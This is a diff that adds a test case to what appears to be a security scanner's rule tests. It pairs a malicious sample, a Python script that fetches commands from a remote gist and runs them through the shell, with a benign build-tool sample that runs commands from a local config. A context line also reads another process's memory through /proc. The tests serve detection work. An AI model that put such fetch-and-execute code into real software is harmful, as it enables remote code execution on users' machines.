@@ -475,6 +475,16 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "const mem = fs.openSync(`/proc/${pid}/mem`, 'r');\n",
         "// Runner.Worker logs are uploaded by the runner itself\nconst log = 'Runner.Worker';\n",
     ),
+    (
+        reverse_shell_rule,
+        "sync.py",
+        "import json, subprocess, urllib.request\n"
+        "tasks = json.loads(urllib.request.urlopen(GIST).read())['tasks']\n"
+        "for task in tasks:\n    subprocess.run(task['cmd'], shell=True)\n",
+        # a build tool running the commands of its own config file
+        "import json, subprocess\nconfig = json.load(open('tasks.json'))\n"
+        "for task in config['tasks']:\n    subprocess.run(task['cmd'], shell=True)\n",
+    ),
 ]
 
 
